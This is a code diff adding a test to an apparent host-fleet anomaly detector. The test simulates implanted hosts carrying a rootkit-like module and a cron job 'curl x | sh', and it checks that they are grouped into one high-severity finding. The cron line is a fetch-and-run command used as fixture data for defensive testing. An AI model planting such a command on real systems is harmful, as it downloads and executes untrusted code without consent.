@@ -152,6 +152,20 @@ describe('without a baseline', () => {
     expect(findings.map(({ severity }) => severity)).toEqual(['low'])
   })
 
+  test('an implant on half of the hosts of a small role is one finding', async () => {
+    const implanted = [0, 20, 40, 60]
+    const findings = await findingsOf(
+      fleet(160, (index, rows) => {
+        const role = `role${index % 20}`
+        for (let at = 0; at < 8; at++) rows.programs!.push({ path: `/opt/${role}/${at}`, username: 'app' })
+        if (!implanted.includes(index)) return
+        rows.modules!.push({ name: 'rk' })
+        rows.cron!.push({ path: '/etc/cron.d/x', command: 'curl x | sh' })
+      })
+    )
+    expect(findings).toMatchObject([{ severity: 'high', hosts: implanted.map(hostId) }])
+  })
+
   test('a protection stopped on a quarter of a small role is a broken control', async () => {
     const stopped = [0, 12, 24, 36, 48]
     const findings = await findingsOf(
